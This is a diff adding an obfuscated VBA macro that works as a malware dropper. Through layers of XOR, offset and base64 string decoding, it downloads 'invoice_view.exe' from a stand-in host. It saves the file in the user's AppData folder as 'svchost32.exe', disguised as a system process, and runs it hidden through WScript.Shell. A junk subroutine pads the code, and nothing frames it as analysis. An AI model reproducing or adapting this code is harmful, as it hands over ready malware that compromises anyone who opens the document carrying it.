@@ -1,0 +1,135 @@
+Dim bmereparomutm As String
+Dim itecgcuce As Variant
+Public Const teljeqarig = "H"
+Public Const eefokoojabobuvfk = "TP"
+Public Const ibyfiye = "A"
+Public Const vqzj865ufrdl = "m"
+Public Const ibfqfoeqh3av = "l"
+Sub itebqwhdfibfgj()
+    Dim ygjoqvfilzaibaax As Object
+    Dim osowoikepgicoi As Object
+    Dim ffioailkrk As String
+    On Error Resume Next
+    Set ygjoqvfilzaibaax = CreateObject(("MSX"&"ML"& jglfakmcp(Array(1406, 1402, 1444, 1433))&"L" & teljeqarig & "T" & eefokoojabobuvfk))
+    Set osowoikepgicoi = CreateObject(("A"&"D"&"O"&"DB"& jcmejvqtia4d5(Array(209, 172, 139, 141))&"eam"))
+    ffioailkrk = Environ(("AP" & "P" & "DAT" & ibyfiye)) & ("\" & "svc" & "hos" & "t32" & (Chr(46)&Chr(101)&Chr(120)&Chr(101)))
+    ygjoqvfilzaibaax.Open "GET", ("htt"& dn5s7s333h(Array(206, 132, 145, 145))&"f"&"i"&"les"& cpajocqoimggcs(Array(1061, 1115, 1129, 1126))&"p-z"& qiletuq(Array(1848, 1847, 1838, 1783))& _
+      "exa" & vqzj865ufrdl & Replace("plibj/", "ibj", "e")&"zde"&"8g"& _
+      "x"& wxo55zbka5(Array(171, 249, 224, 166))&"n"&"vo"&"ice"&"_v"&"ie"& (Chr(119)&Chr(46)&Chr(101)&Chr(120))& _
+      "e"), False
+    ygjoqvfilzaibaax.Send
+    If ygjoqvfilzaibaax.Status = 200 Then
+        osowoikepgicoi.Open
+        osowoikepgicoi.Type = 1
+        osowoikepgicoi.Write ygjoqvfilzaibaax.responseBody
+        osowoikepgicoi.SaveToFile ffioailkrk, 2
+        osowoikepgicoi.Close
+        CreateObject((gonifjiduracigin("V1Njcg==")& (Chr(105)&Chr(112)&Chr(116)&Chr(46))& hmmuonjae(Array(204, 247, 250, 243)) & ibfqfoeqh3av)).Run ffioailkrk, 0, False
+    End If
+End Sub
+
+Function jglfakmcp(udazakueqo As Variant) As String
+    Dim uvuzazeciowakad As Long
+    Dim c7e4qeqpno35ye As String
+    c7e4qeqpno35ye = ""
+    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
+        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) - 1356)
+    Next uvuzazeciowakad
+    jglfakmcp = c7e4qeqpno35ye
+End Function
+
+Function jcmejvqtia4d5(udazakueqo As Variant) As String
+    Dim uvuzazeciowakad As Long
+    Dim c7e4qeqpno35ye As String
+    c7e4qeqpno35ye = ""
+    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
+        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) Xor 255)
+    Next uvuzazeciowakad
+    jcmejvqtia4d5 = c7e4qeqpno35ye
+End Function
+
+Function dn5s7s333h(udazakueqo As Variant) As String
+    Dim uvuzazeciowakad As Long
+    Dim c7e4qeqpno35ye As String
+    c7e4qeqpno35ye = ""
+    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
+        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) Xor 190)
+    Next uvuzazeciowakad
+    dn5s7s333h = c7e4qeqpno35ye
+End Function
+
+Function cpajocqoimggcs(udazakueqo As Variant) As String
+    Dim uvuzazeciowakad As Long
+    Dim c7e4qeqpno35ye As String
+    c7e4qeqpno35ye = ""
+    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
+        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) - 1015)
+    Next uvuzazeciowakad
+    cpajocqoimggcs = c7e4qeqpno35ye
+End Function
+
+Function qiletuq(udazakueqo As Variant) As String
+    Dim uvuzazeciowakad As Long
+    Dim c7e4qeqpno35ye As String
+    c7e4qeqpno35ye = ""
+    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
+        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) - 1737)
+    Next uvuzazeciowakad
+    qiletuq = c7e4qeqpno35ye
+End Function
+
+Function wxo55zbka5(udazakueqo As Variant) As String
+    Dim uvuzazeciowakad As Long
+    Dim c7e4qeqpno35ye As String
+    c7e4qeqpno35ye = ""
+    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
+        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) Xor 207)
+    Next uvuzazeciowakad
+    wxo55zbka5 = c7e4qeqpno35ye
+End Function
+
+Function gonifjiduracigin(udazakueqo As String) As String
+    Dim boudogiwomi As String
+    boudogiwomi = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+    Dim uvuzazeciowakad As Long
+    Dim rvmdfufcg As Long
+    Dim p9o2v21i9mpflv As Long
+    Dim c7e4qeqpno35ye As String
+    Dim hlizsgaxnmnxqg As String
+    Dim ybpislevqquz As Long
+    c7e4qeqpno35ye = ""
+    rvmdfufcg = 0
+    p9o2v21i9mpflv = 0
+    For uvuzazeciowakad = 1 To Len(udazakueqo)
+        hlizsgaxnmnxqg = Mid(udazakueqo, uvuzazeciowakad, 1)
+        If hlizsgaxnmnxqg <> "=" Then
+            ybpislevqquz = InStr(boudogiwomi, hlizsgaxnmnxqg) - 1
+            If ybpislevqquz >= 0 Then
+                rvmdfufcg = rvmdfufcg * 64 + ybpislevqquz
+                p9o2v21i9mpflv = p9o2v21i9mpflv + 6
+                If p9o2v21i9mpflv >= 8 Then
+                    p9o2v21i9mpflv = p9o2v21i9mpflv - 8
+                    c7e4qeqpno35ye = c7e4qeqpno35ye & Chr((rvmdfufcg \ (2 ^ p9o2v21i9mpflv)) Mod 256)
+                End If
+            End If
+        End If
+    Next uvuzazeciowakad
+    gonifjiduracigin = c7e4qeqpno35ye
+End Function
+
+Function hmmuonjae(udazakueqo As Variant) As String
+    Dim uvuzazeciowakad As Long
+    Dim c7e4qeqpno35ye As String
+    c7e4qeqpno35ye = ""
+    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
+        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) Xor 159)
+    Next uvuzazeciowakad
+    hmmuonjae = c7e4qeqpno35ye
+End Function
+
+Private Sub ttouofefsaga()
+    Dim ramuluw As Double
+    ramuluw = 31
+    ramuluw = Sqr(Abs(ramuluw * 7))
+    ramuluw = Round(ramuluw + 41 / 7, 3)
+End Sub
